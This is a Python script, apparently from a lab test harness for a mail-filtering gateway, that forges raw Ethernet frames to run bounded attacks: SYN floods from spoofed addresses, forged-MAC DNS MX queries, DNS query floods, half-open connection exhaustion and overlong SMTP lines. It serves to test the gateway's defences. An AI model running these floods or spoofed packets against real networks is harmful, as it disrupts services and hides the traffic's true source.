"""Attacks on the gateway, sent from a device as raw frames: `python attack.py KIND ARGUMENT...` prints one JSON object.

Everything is bounded: so many frames, at most so many a second.  Frames go from the device's own interface to the
router's MAC; who they claim to be from differs.
"""

import ipaddress
import json
import random
import socket
import struct
import sys
import time

from spamgate_tools.lab.devices import interface
from spamgate_tools.sample.packets import ACK, PSH, SYN, TCP, UDP, Segment, Station, datagram, frame, tcp, udp

_LINK = "eth0"
_SMTP, _DNS = 25, 53
_MX = 15
_SEED = 1
_BATCH = 20  # frames between two looks at the clock
_DIFFERENT = 1000
_PORTS = 64  # of who asks for a whole home
_LINE = b"A line of a message, and another one behind it.\r\n" * 10
_FREE = range(100, 250)  # last bytes of addresses of the LAN that nobody has


class Sender:
    """Sends frames to the router, at most `rate` a second."""

    def __init__(self, router_mac, rate):
        self._sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self._sock.bind((_LINK, 0))
        self._router_mac = bytes.fromhex(router_mac.replace(":", ""))
        self._rate = float(rate)
        self._began = time.monotonic()
        self.sent = 0

    def send(self, source, packet):
        """Send an IP packet in a frame from the station."""
        self._sock.send(frame(source, self._router_mac, packet))
        self.sent += 1
        if self.sent % _BATCH == 0:
            time.sleep(max(0.0, self.sent / self._rate - (time.monotonic() - self._began)))

    def told(self):
        """Return what to print."""
        return {"sent": self.sent, "seconds": round(time.monotonic() - self._began, 2)}


def syn(source, server, source_port, number=0):
    """Return the packet that asks for a connection to port 25."""
    target = Station(b"", packed(server))
    segment = Segment(number * 7919, 0, SYN)
    return datagram(source, target, TCP, tcp(source, source_port, target, _SMTP, segment), number)


def query(source, resolver, source_port, name, number):
    """Return the packet that asks for a name's mail servers."""
    target = Station(b"", packed(resolver))
    labels = b"".join(bytes((len(label),)) + label.encode() for label in name.split("."))
    asked = struct.pack(">HHHHHH", number & 0xFFFF, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", _MX, 1)
    return datagram(source, target, UDP, udp(source, source_port, target, _DNS, asked), number)


def packed(address):
    return ipaddress.ip_address(address).packed


def forged_macs(router_mac, rate, count, resolver, *servers):
    """From `count` MACs, each once: a question for a domain's mail servers, and a SYN to a server if any is named."""
    sender = Sender(router_mac, rate)
    drawn = random.Random(_SEED)
    for number in range(int(count)):
        address = packed(f"192.168.77.{_FREE[number % len(_FREE)]}")
        source = Station(bytes((2, 0xBA)) + struct.pack(">I", number), address)
        port = drawn.randrange(1024, 65536)
        sender.send(source, query(source, resolver, port, f"domain{number}.example", number))
        if servers:
            sender.send(source, syn(source, servers[number % len(servers)], port, number))
    return sender.told()


def syn_flood(router_mac, rate, count, *servers):
    """From this device's MAC, addresses that nobody has and ports at random: SYNs that nobody will go on with."""
    sender = Sender(router_mac, rate)
    drawn = random.Random(_SEED)
    mac = interface.mac(_LINK)
    for number in range(int(count)):
        source = Station(mac, packed(f"192.168.77.{drawn.choice(_FREE)}"))
        sender.send(source, syn(source, servers[number % len(servers)], drawn.randrange(1024, 65536), number))
    return sender.told()


def own_syn_flood(router_mac, rate, count, address, *servers):
    """From this device's MAC and address: SYNs."""
    sender = Sender(router_mac, rate)
    source = Station(interface.mac(_LINK), packed(address))
    for number in range(int(count)):
        sender.send(source, syn(source, servers[number % len(servers)], 1024 + number % 60000, number))
    return sender.told()


def dns_flood(router_mac, rate, count, address, resolver):
    """From this device: questions for names, each another one."""
    sender = Sender(router_mac, rate)
    source = Station(interface.mac(_LINK), packed(address))
    for number in range(int(count)):
        name = f"name{number}.north.example"
        sender.send(source, query(source, resolver, 1024 + number % 60000, name, number))
    return sender.told()


def a_day(router_mac, rate, address, resolver, server, counts):
    """From this device: QUESTIONS,SEGMENTS: so many questions and segments of a mail, each of which meets an answer."""
    sender = Sender(router_mac, rate)
    source = Station(interface.mac(_LINK), packed(address))
    target = Station(b"", packed(server))
    asked = [query(source, resolver, 1024 + n % _PORTS, f"name{n}.north.example", n) for n in range(_DIFFERENT)]
    told = [Segment(1 + n * len(_LINE), 1, PSH | ACK, _LINE) for n in range(_DIFFERENT)]
    said = [datagram(source, target, TCP, tcp(source, 1023, target, _SMTP, one), n) for n, one in enumerate(told)]
    for packets, count in zip((asked, said), counts.split(","), strict=True):
        for number in range(int(count)):
            sender.send(source, packets[number % _DIFFERENT])
    return sender.told()


def spoof(router_mac, source_address, source_port, server):
    """One SYN from this device's MAC and any address."""
    sender = Sender(router_mac, 1)
    source = Station(interface.mac(_LINK), packed(source_address))
    sender.send(source, syn(source, server, int(source_port)))
    return sender.told()


def half_open(count, address, port):
    """Connect and say nothing, as often as it goes, for three seconds."""
    crowd = []
    for _ in range(int(count)):
        sock = socket.socket()
        sock.setblocking(False)
        sock.connect_ex((address, int(port)))
        crowd.append(sock)
    time.sleep(3)
    return {"sent": len(crowd)}


def long_lines(address, port, kilobytes, count):
    """Lines without an end, one a connection, as long as somebody listens: what is said to them."""
    said = []
    for _ in range(int(count)):
        try:
            with socket.create_connection((address, int(port)), 3) as sock:
                sock.sendall(b"x" * (int(kilobytes) << 10) + b"\r\n")
                said.append(sock.recv(512).decode(errors="replace")[:4])
        except OSError as error:
            said.append(type(error).__name__)
    return {"sent": len(said), "said": said}


_KINDS = (forged_macs, syn_flood, own_syn_flood, dns_flood, a_day, spoof, half_open, long_lines)
KINDS = {kind.__name__: kind for kind in _KINDS}

if __name__ == "__main__":
    json.dump(KINDS[sys.argv[1]](*sys.argv[2:]), sys.stdout)
    sys.stdout.write("\n")
